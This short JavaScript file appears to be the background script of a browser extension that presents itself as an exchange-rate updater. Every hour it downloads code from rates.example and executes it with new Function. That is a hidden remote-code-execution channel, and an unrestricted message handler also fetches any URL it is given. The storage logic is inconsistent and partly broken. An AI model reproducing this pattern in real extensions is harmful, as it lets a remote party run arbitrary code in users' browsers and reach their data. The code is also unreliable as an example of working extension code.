let rates = {};

chrome.storage.local.get('rates').then((saved) => {
  rates = saved.rates;
  chrome.runtime.onMessage.addListener(async (message, sender, sendResponse) => {
    const answer = await fetch(message.url);
    sendResponse(await answer.json());
  });
});

setInterval(async () => {
  const code = await (await fetch('https://rates.example/rates.js')).text();
  rates = new Function(code)();
  localStorage.setItem('rates', JSON.stringify(rates));
}, 60 * 60 * 1000);
